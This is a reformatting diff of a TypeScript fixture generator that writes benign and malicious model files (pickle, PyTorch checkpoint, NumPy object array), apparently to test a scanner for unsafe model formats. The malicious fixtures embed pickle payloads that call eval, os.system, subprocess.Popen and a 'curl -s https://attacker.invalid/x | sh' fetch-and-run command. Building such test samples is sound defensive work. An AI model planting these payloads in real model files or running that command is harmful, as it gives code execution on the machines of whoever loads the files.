@@ -14,13 +14,15 @@ rmSync(join(root, "benign"), { recursive: true, force: true });
 rmSync(join(root, "malicious"), { recursive: true, force: true });
 mkdirSync(join(root, "benign"), { recursive: true });
 mkdirSync(join(root, "malicious"), { recursive: true });
-const put = (dir: string, name: string, bytes: Uint8Array | string) => writeFileSync(join(root, dir, name), bytes);
+const put = (dir: string, name: string, bytes: Uint8Array | string) =>
+  writeFileSync(join(root, dir, name), bytes);
 
 const tensors: TensorSpec[] = [
   { name: "linear.weight", key: "0", shape: [2, 3] },
   { name: "linear.bias", key: "1", shape: [2] },
 ];
-const floats = (n: number) => new Uint8Array(new Float32Array(Array.from({ length: n }, (_, i) => i / 10)).buffer);
+const floats = (n: number) =>
+  new Uint8Array(new Float32Array(Array.from({ length: n }, (_, i) => i / 10)).buffer);
 const storages = [
   { key: "0", bytes: floats(6) },
   { key: "1", bytes: floats(2) },
@@ -59,7 +61,12 @@ put(
   pickle()
     .proto(4)
     .framed((w) =>
-      w.stackGlobal("builtins", "eval").shortBinunicode("__import__('os').system('echo pwned')").op("TUPLE1").op("REDUCE").stop(),
+      w
+        .stackGlobal("builtins", "eval")
+        .shortBinunicode("__import__('os').system('echo pwned')")
+        .op("TUPLE1")
+        .op("REDUCE")
+        .stop(),
     )
     .bytes(),
 );
@@ -68,12 +75,17 @@ put(
   "checkpoint_with_payload.pt",
   torchZip(
     stateDictPickle(tensors, (w) =>
-      w.binunicode("_extra").reduceGlobal("posix", "system", (a) => a.binunicode("curl -s https://attacker.invalid/x | sh")),
+      w
+        .binunicode("_extra")
+        .reduceGlobal("posix", "system", (a) => a.binunicode("curl -s https://attacker.invalid/x | sh")),
     ),
     storages,
   ),
 );
-const code = Buffer.from("YwAAAAAAAAAAAAAAAAAAAAAAAAAAcwQAAABkAFMAKQFOqQByAgAAAHICAAAAcgIAAAD6AHIDAAAAcgMAAAA=", "base64");
+const code = Buffer.from(
+  "YwAAAAAAAAAAAAAAAAAAAAAAAAAAcwQAAABkAFMAKQFOqQByAgAAAHICAAAAcgIAAAD6AHIDAAAAcgMAAAA=",
+  "base64",
+);
 put(
   "malicious",
   "marshal_function.pkl",
@@ -100,7 +112,9 @@ put(
 );
 const popen = pickle()
   .proto(3)
-  .reduceGlobal("subprocess", "Popen", (w) => w.mark().binunicode("sh").binunicode("-c").binunicode("id").op("LIST"))
+  .reduceGlobal("subprocess", "Popen", (w) =>
+    w.mark().binunicode("sh").binunicode("-c").binunicode("id").op("LIST"),
+  )
   .stop()
   .bytes();
 put("malicious", "object_array.npy", buildNpy({ descr: "|O", shape: [1], data: popen }));
@@ -110,7 +124,9 @@ put(
   "legacy_payload_in_4th_pickle.pt",
   legacyTorch(
     tensors,
-    stateDictPickle(tensors, (w) => w.binunicode("_extra").reduceGlobal("os", "system", (a) => a.binunicode("echo pwned"))),
+    stateDictPickle(tensors, (w) =>
+      w.binunicode("_extra").reduceGlobal("os", "system", (a) => a.binunicode("echo pwned")),
+    ),
   ),
 );
 console.log(`wrote examples to ${root}`);
